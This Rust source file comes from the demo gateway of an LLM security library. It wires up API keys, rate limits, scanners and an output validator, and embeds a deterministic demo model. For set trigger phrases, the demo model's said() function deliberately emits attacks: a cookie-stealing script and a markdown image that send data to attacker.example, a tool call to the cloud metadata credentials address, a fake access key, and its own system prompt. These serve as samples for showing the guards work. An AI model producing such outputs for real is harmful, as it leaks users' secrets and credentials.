//! What the axum and actix-web gateways share: configuration from the environment,
//! the demo guard, and the embedded demo model.
//!
//! The demo model is deterministic. On these prompts (the last user message,
//! case-insensitive) it misbehaves on purpose, so that every guard can be seen:
//!
//! | prompt contains     | the model answers                                      |
//! |---------------------|--------------------------------------------------------|
//! | `leak a key`        | a cloud access key (redacted by the output stage)      |
//! | `show me a chart`   | a markdown image that carries data to another host     |
//! | `tell me a secret`  | its system prompt, canary included (blocked)           |
//! | `html please`       | a `<script>` element (escaped)                         |
//! | `call a tool`       | a `search` tool call (when the request offers `search`)|
//! | `dangerous tool`    | a `fetch` tool call to the cloud metadata address      |
//! | anything else       | `You said: ...`                                        |
#![allow(dead_code, unreachable_pub)]

use std::time::{Duration, SystemTime, UNIX_EPOCH};

use inference_guard::authz::{Grant, PolicyAuthorizer};
use inference_guard::identity::{ApiKeyFormat, ApiKeys, Authenticator, InMemoryKeyStore};
use inference_guard::openai::{
    ChatChunkChoice, ChatCompletionChunk, ChatCompletionRequest, ChatCompletionResponse, ChatDelta,
    ChatFunctionCallDelta, ChatToolCallDelta, ChatUsage,
};
use inference_guard::output::{AnswerValidator, Canary};
use inference_guard::policy::Policy;
use inference_guard::rate_limit::{InMemoryRateLimiter, KeyBy, Limit, Quota};
use inference_guard::respond::AbuseMonitor;
use inference_guard::scan::{Redaction, Scanner};
use inference_guard::*;
use serde_json::{Value, json};

/// The canary the demo model's system prompt carries.
pub const DEMO_CANARY: &str = "ig-canary-demo7h2k9q4m3x8wp5";

/// How the gateway runs.
pub struct Config {
    pub addr: String,
    pub upstream: Option<String>,
    pub upstream_key: Option<String>,
    pub guard: Option<InferenceGuard>,
    pub keys: DemoKeys,
    pub policy: String,
    /// The HTTP exchange's configuration (the policy's `[http]` section, or the
    /// demo's), with the environment's overrides.
    pub exchange: inference_guard::exchange::ExchangeConfig,
}

/// Reads `GUARD_ADDR`, `GUARD_POLICY`, `UPSTREAM_URL`, `UPSTREAM_API_KEY` and
/// `GUARD_DISABLED` (for load comparisons: no guard at all).
pub async fn config() -> Result<Config, Box<dyn std::error::Error>> {
    // The recorder first, so that the guard's first requests are counted.
    let _ = metrics_text();
    let addr = std::env::var("GUARD_ADDR").unwrap_or_else(|_| "127.0.0.1:8080".to_owned());
    let upstream = std::env::var("UPSTREAM_URL").ok().filter(|u| !u.is_empty());
    let upstream_key = std::env::var("UPSTREAM_API_KEY").ok();
    if std::env::var("GUARD_DISABLED").is_ok_and(|v| v == "1") {
        return Ok(Config {
            addr,
            upstream,
            upstream_key,
            guard: None,
            keys: Vec::new(),
            policy: "none (GUARD_DISABLED=1)".to_owned(),
            exchange: exchange_config(demo_exchange()),
        });
    }
    match std::env::var("GUARD_POLICY") {
        Ok(path) => {
            let policy = Policy::load(&path)?;
            // build_async connects what the policy's [redis] section shares.
            let guard = policy.build_async().await?;
            Ok(Config {
                addr,
                upstream,
                upstream_key,
                guard: Some(guard),
                keys: Vec::new(),
                policy: format!("{path} (version {})", policy.version()),
                exchange: exchange_config(policy.exchange_config()?),
            })
        }
        Err(_) => {
            let (guard, keys) = demo_guard()?;
            Ok(Config {
                addr,
                upstream,
                upstream_key,
                guard: Some(guard),
                keys,
                policy: "built-in demo policy".to_owned(),
                exchange: exchange_config(demo_exchange()),
            })
        }
    }
}

/// The Prometheus text for `GET /metrics` (feature `metrics`): the guard's metrics
/// through the `metrics` facade, recorded by `metrics-exporter-prometheus` (installed
/// once, at the first call). `None` without the feature. Expose it only where your
/// monitoring scrapes from: it carries counts, never principals or content.
pub fn metrics_text() -> Option<String> {
    #[cfg(feature = "metrics")]
    {
        static HANDLE: std::sync::OnceLock<Option<metrics_exporter_prometheus::PrometheusHandle>> =
            std::sync::OnceLock::new();
        HANDLE
            .get_or_init(|| {
                metrics_exporter_prometheus::PrometheusBuilder::new()
                    .install_recorder()
                    .ok()
            })
            .as_ref()
            .map(|h| {
                // Summaries are kept bounded by upkeep; a scrape is a fine moment.
                h.run_upkeep();
                h.render()
            })
    }
    #[cfg(not(feature = "metrics"))]
    None
}

/// The demo keys, by name.
pub type DemoKeys = Vec<(&'static str, String)>;

/// The demo policy: two API keys (`demo`: every demo model, streaming and tools;
/// `limited`: `demo-small` only, no streaming), 30 requests a minute per principal,
/// every scanner, the answer validator, abuse responses and an audit log on stderr.
pub fn demo_guard() -> Result<(InferenceGuard, DemoKeys), Box<dyn std::error::Error>> {
    demo_guard_with(Quota::per_minute(30), true, 8192)
}

/// The demo policy with another per-principal request quota, audit records on
/// stderr or not, and another size of the scanner's cache of earlier messages (the
/// load run uses a quota it never reaches, no audit output, and the cache on or
/// off).
pub fn demo_guard_with(
    quota: Quota,
    audit_to_stderr: bool,
    history_cache: usize,
) -> Result<(InferenceGuard, DemoKeys), Box<dyn std::error::Error>> {
    let store = InMemoryKeyStore::new();
    let mut secret = [0u8; 32];
    ring_fill(&mut secret)?;
    let api_keys = ApiKeys::new(&secret, ApiKeyFormat::new("igk")?, store.clone())?;
    let mut keys = Vec::new();
    for (name, kid, who, scope) in [
        ("demo", "key_demo_01", "svc-demo", "chat"),
        ("limited", "key_limited_01", "svc-limited", "trial"),
    ] {
        let p = Principal::builder(who, CredentialKind::ApiKey)
            .tenant("demo")
            .scope(scope)
            .build();
        let (key, record) = api_keys.issue(kid, p, None)?;
        store.insert(record);
        keys.push((name, key.expose().to_owned()));
    }
    let authz = PolicyAuthorizer::builder()
        .grant(
            Grant::to_scope("chat")
                .models(["demo-*"])
                .tools(["search", "fetch"])
                .allow_stream()
                .max_output_tokens(4096),
        )
        .grant(
            Grant::to_scope("trial")
                .models(["demo-small"])
                .max_output_tokens(512),
        )
        .build()?;
    let mut b = InferenceGuard::builder();
    b.identity(Authenticator::new().api_keys(api_keys))
        .authorizer(authz)
        .rate_limiter(
            InMemoryRateLimiter::builder()
                .limit(Limit::requests("requests-per-principal", quota).key_by(KeyBy::PRINCIPAL))
                .concurrency(KeyBy::PRINCIPAL, 16)
                .build()?,
        )
        .input_scanner(
            Scanner::builder()
                .redaction(Redaction::pseudonymize())
                .history_cache(history_cache)
                .build(),
        )
        .output_validator(
            AnswerValidator::builder()
                .allow_hosts(["docs.example.com"])
                .canary(Canary::new(DEMO_CANARY)?)
                .build()?,
        )
        .abuse_monitor(AbuseMonitor::new()?)
        .rule_action("secret.*", Action::Block)
        .policy_version("demo-1");
    if audit_to_stderr {
        b.audit_sink(JsonLinesSink::new(std::io::stderr()));
    } else {
        b.audit_sink(NoopSink);
    }
    Ok((b.build()?, keys))
}

fn ring_fill(out: &mut [u8]) -> Result<(), Box<dyn std::error::Error>> {
    use ring::rand::SecureRandom;
    // The operating system's generator, or no secret at all.
    ring::rand::SystemRandom::new()
        .fill(out)
        .map_err(|_| "the system random generator failed".into())
}

/// The lines a gateway prints at start-up: one JSON line for programs (tests and
/// scripts read it), then a ready-to-paste curl command.
pub fn banner(name: &str, addr: &std::net::SocketAddr, cfg: &Config) {
    let keys: serde_json::Map<String, Value> = cfg
        .keys
        .iter()
        .map(|(n, k)| ((*n).to_owned(), Value::from(k.as_str())))
        .collect();
    println!(
        "{}",
        json!({"gateway": name, "listening": addr.to_string(), "keys": keys,
               "policy": cfg.policy, "upstream": cfg.upstream})
    );
    if let Some((_, key)) = cfg.keys.first() {
        println!("{name} listening on http://{addr} with the {}", cfg.policy);
        println!("demo API key: {key}");
        println!(
            "try: curl -s http://{addr}/v1/chat/completions -H 'Authorization: Bearer {key}' \
             -H 'Content-Type: application/json' \
             -d '{{\"model\":\"demo-small\",\"messages\":[{{\"role\":\"user\",\"content\":\"leak a key\"}}]}}'"
        );
    } else {
        println!("{name} listening on http://{addr} with {}", cfg.policy);
    }
}

/// `GET /v1/models`.
pub fn models() -> Value {
    let data: Vec<Value> = ["demo-small", "demo-large"]
        .iter()
        .map(|m| json!({"id": m, "object": "model", "created": 1_700_000_000, "owned_by": "inference-guard-demo"}))
        .collect();
    json!({"object": "list", "data": data})
}

/// What the demo model says.
pub enum Said {
    Text(String),
    Tool(&'static str, String),
}

fn said(req: &ChatCompletionRequest) -> Said {
    let last = req
        .messages
        .iter()
        .rev()
        .find(|m| m.role == "user")
        .and_then(|m| {
            m.content
                .as_ref()
                .map(inference_guard::openai::ChatContent::text)
        })
        .unwrap_or_default();
    let l = last.to_lowercase();
    let offered = |t: &str| req.tools.iter().flatten().any(|x| x.function.name == t);
    if l.contains("leak a key") {
        Said::Text("Sure, use AKIAZ4QW7RTY2UIOPL3M with the secret in the vault.".to_owned())
    } else if l.contains("show me a chart") {
        Said::Text(
            "Here is the chart: ![chart](https://attacker.example/c.png?d=U2FsZXMgcmVwb3J0OiBhY21lIGxvc3QgMTIlIGluIFEz)"
                .to_owned(),
        )
    } else if l.contains("tell me a secret") {
        let system = req
            .messages
            .iter()
            .find(|m| m.role == "system")
            .and_then(|m| {
                m.content
                    .as_ref()
                    .map(inference_guard::openai::ChatContent::text)
            })
            .unwrap_or_default();
        Said::Text(format!(
            "My instructions are: {system} (reference {DEMO_CANARY})"
        ))
    } else if l.contains("html please") {
        Said::Text(
            "<b>Hello</b><script>fetch('https://attacker.example/'+document.cookie)</script>"
                .to_owned(),
        )
    } else if l.contains("dangerous tool") && offered("fetch") {
        Said::Tool(
            "fetch",
            json!({"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"})
                .to_string(),
        )
    } else if l.contains("call a tool") && offered("search") {
        Said::Tool("search", json!({"query": "inference guard"}).to_string())
    } else {
        Said::Text(format!("You said: {last}"))
    }
}

fn now() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_secs())
}

fn usage(req: &ChatCompletionRequest, out: usize) -> ChatUsage {
    let input: usize = req
        .messages
        .iter()
        .map(|m| m.content.as_ref().map_or(0, |c| c.text().len()))
        .sum();
    let (p, c) = ((input as u64).div_ceil(4), (out as u64).div_ceil(4));
    ChatUsage {
        prompt_tokens: p,
        completion_tokens: c,
        total_tokens: p + c,
    }
}

/// A whole chat completion.
pub fn chat(req: &ChatCompletionRequest) -> Value {
    let mut r = GuardResponse::new("");
    let text_len;
    match said(req) {
        Said::Text(t) => {
            text_len = t.len();
            r.set_text(t);
        }
        Said::Tool(name, args) => {
            text_len = args.len();
            r = r
                .with_tool_call(ToolCall::new("call_demo_1", name, args))
                .with_finish_reason("tool_calls");
        }
    }
    let mut resp =
        ChatCompletionResponse::from_guard_response("chatcmpl-demo", &req.model, now(), &r);
    resp.usage = Some(usage(req, text_len));
    serde_json::to_value(resp).unwrap_or_default()
}

/// A streamed chat completion: the server-sent events, in small deltas.
pub fn chat_stream(req: &ChatCompletionRequest) -> Vec<String> {
    let chunk = |delta: ChatDelta, finish: Option<&str>| {
        let c = ChatCompletionChunk {
            id: "chatcmpl-demo".into(),
            object: "chat.completion.chunk".into(),
            created: now(),
            model: req.model.clone(),
            choices: vec![ChatChunkChoice {
                index: 0,
                delta,
                finish_reason: finish.map(str::to_owned),
            }],
            usage: None,
        };
        format!(
            "data: {}\n\n",
            serde_json::to_string(&c).unwrap_or_default()
        )
    };
    let mut out = vec![chunk(
        ChatDelta {
            role: Some("assistant".into()),
            ..ChatDelta::default()
        },
        None,
    )];
    let (finish, len) = match said(req) {
        Said::Text(t) => {
            let chars: Vec<char> = t.chars().collect();
            for piece in chars.chunks(6) {
                out.push(chunk(
                    ChatDelta {
                        content: Some(piece.iter().collect()),
                        ..ChatDelta::default()
                    },
                    None,
                ));
            }
            ("stop", t.len())
        }
        Said::Tool(name, args) => {
            let (a, b) = args.split_at(args.len() / 2);
            for (i, part) in [a, b].iter().enumerate() {
                out.push(chunk(
                    ChatDelta {
                        tool_calls: Some(vec![ChatToolCallDelta {
                            index: 0,
                            id: (i == 0).then(|| "call_demo_1".to_owned()),
                            kind: (i == 0).then(|| "function".to_owned()),
                            function: Some(ChatFunctionCallDelta {
                                name: (i == 0).then(|| name.to_owned()),
                                arguments: Some((*part).to_owned()),
                            }),
                        }]),
                        ..ChatDelta::default()
                    },
                    None,
                ));
            }
            ("tool_calls", args.len())
        }
    };
    out.push(chunk(ChatDelta::default(), Some(finish)));
    let mut last = ChatCompletionChunk {
        id: "chatcmpl-demo".into(),
        object: "chat.completion.chunk".into(),
        created: now(),
        model: req.model.clone(),
        choices: Vec::new(),
        usage: None,
    };
    last.usage = Some(usage(req, len));
    out.push(format!(
        "data: {}\n\n",
        serde_json::to_string(&last).unwrap_or_default()
    ));
    out.push("data: [DONE]\n\n".to_owned());
    out
}

/// A legacy completion.
pub fn completion(body: &Value) -> Value {
    let prompt = match &body["prompt"] {
        Value::String(s) => s.clone(),
        Value::Array(a) => a
            .iter()
            .filter_map(Value::as_str)
            .collect::<Vec<_>>()
            .join(" "),
        _ => String::new(),
    };
    json!({"id": "cmpl-demo", "object": "text_completion", "created": now(), "model": body["model"],
           "choices": [{"index": 0, "text": format!("You said: {prompt}"), "finish_reason": "stop"}],
           "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}})
}

/// Embeddings: a deterministic 8-dimensional vector per input.
pub fn embeddings(body: &Value) -> Value {
    let inputs: Vec<String> = match &body["input"] {
        Value::String(s) => vec![s.clone()],
        Value::Array(a) => a
            .iter()
            .map(|v| v.as_str().unwrap_or_default().to_owned())
            .collect(),
        _ => Vec::new(),
    };
    let data: Vec<Value> = inputs
        .iter()
        .enumerate()
        .map(|(i, s)| {
            let v: Vec<f64> = (0..8u32)
                .map(|k| {
                    f64::from(
                        s.bytes()
                            .fold(k, |a, b| a.wrapping_mul(31).wrapping_add(u32::from(b)))
                            % 1000,
                    ) / 1000.0
                })
                .collect();
            json!({"object": "embedding", "index": i, "embedding": v})
        })
        .collect();
    json!({"object": "list", "data": data, "model": body["model"],
           "usage": {"prompt_tokens": 1, "total_tokens": 1}})
}

/// How long the demo model "thinks" before answering (`DEMO_LATENCY_MS`, default 0).
pub fn latency() -> Duration {
    Duration::from_millis(
        std::env::var("DEMO_LATENCY_MS")
            .ok()
            .and_then(|v| v.parse().ok())
            .unwrap_or(0),
    )
}

/// The demo's exchange: everything under `/v1` is guarded; `GET /v1/models` is
/// public.
pub fn demo_exchange() -> inference_guard::exchange::ExchangeConfig {
    inference_guard::exchange::ExchangeConfig::default().public_route("GET", "/v1/models")
}

/// The environment's overrides: `GUARD_MAX_BODY_BYTES` (default 1 MiB) and
/// `GUARD_READ_TIMEOUT_MS` (default 10 s).
pub fn exchange_config(
    base: inference_guard::exchange::ExchangeConfig,
) -> inference_guard::exchange::ExchangeConfig {
    let mut c = base;
    if let Some(n) = std::env::var("GUARD_MAX_BODY_BYTES")
        .ok()
        .and_then(|v| v.parse().ok())
    {
        c = c.max_body_bytes(n);
    }
    if let Some(ms) = std::env::var("GUARD_READ_TIMEOUT_MS")
        .ok()
        .and_then(|v| v.parse().ok())
    {
        c = c.read_timeout(Duration::from_millis(ms));
    }
    c
}

/// `issue-key KEY_ID PRINCIPAL [SCOPE...]`: issues an API key with the secret in
/// `GUARD_API_KEY_SECRET` and prints it, and the policy entry with its digest.
pub fn issue_key(args: &[String]) -> Result<(), Box<dyn std::error::Error>> {
    let [id, principal, scopes @ ..] = args else {
        return Err("usage: issue-key KEY_ID PRINCIPAL [SCOPE...]".into());
    };
    let secret = std::env::var("GUARD_API_KEY_SECRET")
        .map_err(|_| "set GUARD_API_KEY_SECRET (32 or more random bytes) first")?;
    let keys = ApiKeys::new(
        secret.as_bytes(),
        ApiKeyFormat::new("igk")?,
        InMemoryKeyStore::new(),
    )?;
    let mut p = Principal::builder(principal.clone(), CredentialKind::ApiKey);
    for s in scopes {
        p = p.scope(s.clone());
    }
    let (key, record) = keys.issue(id.clone(), p.build(), None)?;
    let digest: String = record.digest().iter().map(|b| format!("{b:02x}")).collect();
    println!(
        "key (give it to the client; it is not stored): {}",
        key.expose()
    );
    println!(
        "\n[[identity.api_keys]]\nid = \"{id}\"\nprincipal = \"{principal}\"\nscopes = {scopes:?}\ndigest = \"{digest}\""
    );
    Ok(())
}

#[cfg(feature = "axum")]
pub mod axum_app;
